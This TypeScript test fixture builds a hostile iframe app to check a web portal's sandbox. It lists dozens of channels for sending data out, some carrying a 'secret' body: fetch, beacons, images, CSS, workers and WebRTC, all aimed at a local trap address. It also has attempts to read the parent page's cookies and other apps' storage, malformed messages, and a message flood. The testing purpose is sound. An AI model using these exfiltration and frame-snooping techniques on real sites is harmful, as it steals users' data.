/**
 * What a hostile app tries, as rows: name → body of a function in the app's page. `url` is an address of another
 * origin that ends in the row's name. Written for the page, so no module system and no types.
 */
export type Attempts = Readonly<Record<string, string>>

/** Ways to send something to another origin without leaving the page. */
export const waysOut: Attempts = {
  fetch: 'return fetch(url)',
  'fetch-no-cors': "return fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })",
  'fetch-keepalive': 'return fetch(url, { keepalive: true })',
  xhr: "var xhr = new XMLHttpRequest(); xhr.open('GET', url); xhr.send()",
  'xhr-synchronous': "var xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.send()",
  'web-socket': "new WebSocket(url.replace('http', 'ws'))",
  'event-source': 'new EventSource(url)',
  beacon: "return navigator.sendBeacon(url, 'secret')",
  ping: "add('a', { href: '#', ping: url }).click()",
  image: 'new Image().src = url',
  'image-markup': 'document.body.insertAdjacentHTML("beforeend", "<img src=" + url + ">")',
  'input-image': "add('input', { type: 'image', src: url })",
  audio: 'new Audio(url).load()',
  video: "add('video', { src: url })",
  poster: "add('video', { poster: url })",
  script: "add('script', { src: url })",
  'module-import': 'return import(url)',
  'style-sheet': "add('link', { rel: 'stylesheet', href: url })",
  prefetch: "add('link', { rel: 'prefetch', href: url })",
  preload: "add('link', { rel: 'preload', as: 'fetch', href: url })",
  'module-preload': "add('link', { rel: 'modulepreload', href: url })",
  'css-import': "add('style', { textContent: '@import url(' + url + ')' })",
  'css-background': "add('div', { style: 'height: 9px; background: url(' + url + ')' })",
  'css-font':
    "add('style', { textContent: '@font-face { font-family: f; src: url(' + url + ') }' }); add('p', { style: 'font-family: f', textContent: 'x' })",
  'svg-image': 'document.body.insertAdjacentHTML("beforeend", "<svg><image href=" + url + " /></svg>")',
  frame: "add('iframe', { src: url })",
  'frame-srcdoc': "add('iframe', { srcdoc: '<img src=' + url + '>' })",
  'frame-blank': "add('iframe', {}).contentWindow.fetch(url)",
  object: "add('object', { data: url })",
  embed: "add('embed', { src: url })",
  'worker-blob': "new Worker(blob('fetch(' + JSON.stringify(url) + ')'))",
  'worker-data':
    "new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(url) + ')'))",
  'worker-import': "new Worker(blob('importScripts(' + JSON.stringify(url) + ')'))",
  'shared-worker': "new SharedWorker(blob('fetch(' + JSON.stringify(url) + ')'))",
}

/** As above; what shows are datagrams. */
export const peers: Attempts = {
  'web-rtc': 'connectPeer(window.RTCPeerConnection)',
  'web-rtc-blank': "connectPeer(add('iframe', {}).contentWindow.RTCPeerConnection)",
}

/** Ways to another origin that end the page, or open another. */
export const navigations: Attempts = {
  'own-location': 'location.href = url',
  'own-replace': 'location.replace(url)',
  'own-link': "add('a', { href: url }).click()",
  'own-refresh': "add('meta', { httpEquiv: 'refresh', content: '0; url=' + url })",
  'own-form': "var form = add('form', { action: url }); form.submit()",
  'own-form-post': "var form = add('form', { action: url, method: 'post' }); form.submit()",
  'own-base': "add('base', { href: url }); add('a', { href: url }).click()",
  'blank-window': "window.open(url, '_blank')",
  'blank-link': "add('a', { href: url, target: '_blank' }).click()",
  'top-location': 'top.location = url',
  'top-link': "add('a', { href: url, target: '_top' }).click()",
  'top-window': "window.open(url, '_top')",
}

/** Ways to look beyond the frame; every one has to throw. `other()` is another app's window. */
export const looks: Attempts = {
  'the page': 'return parent.document.body.innerHTML',
  'the address of the page': 'return top.location.href',
  'the credentials of the page': 'return parent.sessionStorage.length',
  'the cookies of the page': 'return parent.document.cookie',
  'the page after giving up the own origin':
    "try { document.domain = 'pillion.localhost' } catch (error) {} return parent.document.body",
  'the element of the own frame': 'return window.frameElement.ownerDocument.body',
  'a function of the page': 'return parent.fetch.call(parent, "/portal/api/vehicle")',
  'the page of another app': 'return other().document.body',
  'the address of another app': 'return other().location.href',
  'the storage of another app': 'return other().localStorage.length',
  'the pending messages of another app': 'return other().WebPortal.getPendingNotifications()',
  'the name of another app': 'return other().name',
  'another app after giving up the own origin':
    "try { document.domain = 'pillion.localhost' } catch (error) {} return other().document.body",
  'the frame of another app by navigation': 'other().location = url; return other().location',
}

/** What no handler of the host page may trip over, as an expression: an array. */
export const malformedMessages = `[
  null, undefined, 0, -1, NaN, true, '', 'text', [], {}, [[]], new Date(), new Map(), /x/, new Error('x'), 10n, cycle,
  deep, new ArrayBuffer(8), new Blob(['x']), { type: null }, { type: 5 }, { type: {} }, { type: '__proto__' },
  { type: 'constructor' }, { type: 'WebPortal.nothing' }, { type: 'WebPortal.onApplicationLoaded', value: cycle },
  { type: 'WebPortal.onSendNotificationRequest', value: 10n }, { type: 'WebPortal.onSendNotificationRequest', value: cycle },
  { type: 'WebPortal.onSendNotificationRequest', value: deep }, { type: 'WebPortal.onSendNotificationRequest', topic: 5 },
  { type: 'WebPortal.onSendNotificationRequest', topic: '#' }, { type: 'WebPortal.onSendNotificationRequest', topic: '../..' },
  { type: 'WebPortal.MQTT.publish' }, { type: 'WebPortal.MQTT.publish', payload: cycle, subtopic: '+' },
  { type: 'WebPortal.MQTT.publish', payload: 'x', subtopic: {} }, { content: cycle }, { content: undefined },
  { pillion: null }, { pillion: {} }, { pillion: 'unknown' }, { pillion: 'drained' }, { pillion: 'drained', sequence: 'x' },
  { pillion: 'drained', sequence: NaN }, { pillion: 'drained', sequence: -1 }, { pillion: 'console' },
  { pillion: 'console', level: {}, text: {} }, { pillion: 'console', level: 'x', text: 'y' }, { pillion: 'state', state: null },
  { pillion: 'pending', entries: null }, { pillion: 'event', event: null }
]`

/** The hostile app's page; it holds all of them. `attempt(name)` gives `{value}` or `{error}`. */
export function hostileHtml(trapPort: number): string {
  const rows = Object.entries({ ...waysOut, ...peers, ...navigations, ...looks })
  const attempts = rows.map(([name, body]) => `${JSON.stringify(name)}: function (url) { ${body} }`)
  return `<body><h1>Hostile</h1><script>
  var seen = []
  addEventListener('message', function (event) { seen.push(event.data) })
  function add(name, fields) { return document.body.appendChild(Object.assign(document.createElement(name), fields)) }
  function blob(text) { return URL.createObjectURL(new Blob([text], { type: 'text/javascript' })) }
  function other() {
    for (var i = 0; i < parent.frames.length; i++) if (parent.frames[i] !== window) return parent.frames[i]
    throw new Error('there is no other app')
  }
  function connectPeer(Peer) {
    var peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${trapPort}' }] })
    peer.createDataChannel('secret')
    peer.createOffer().then(function (offer) { return peer.setLocalDescription(offer) })
  }
  var cycle = {}
  cycle.self = cycle
  var deep = []
  for (var depth = 0; depth < 1000; depth++) deep = [deep]
  var attempts = { ${attempts.join(',\n')} }
  function attempt(name) {
    return new Promise(function (resolve) {
      resolve(attempts[name]('http://127.0.0.1:${trapPort}/' + encodeURIComponent(name)))
    }).then(
      function (value) { return { value: String(value) } },
      function (error) { return { error: String(error) } }
    )
  }
  /** As an app does that does not expect to be refused: nobody catches anything. */
  function attemptOpenly(name) {
    setTimeout(function () { return attempts[name]('http://127.0.0.1:${trapPort}/' + encodeURIComponent(name)) })
  }
  /** 10,000 messages a second, by the clock. */
  function flood(seconds) {
    var begin = Date.now(), sent = 0
    function pump() {
      var due = Math.min(Date.now() - begin, seconds * 1000) * 10
      for (; sent < due; sent++) parent.postMessage({ type: 'WebPortal.onSendNotificationRequest', value: sent }, '*')
      if (due < seconds * 10000) setTimeout(pump, 1)
    }
    pump()
  }
  parent.postMessage({ type: 'WebPortal.onApplicationLoaded' }, '*')
</script>`
}
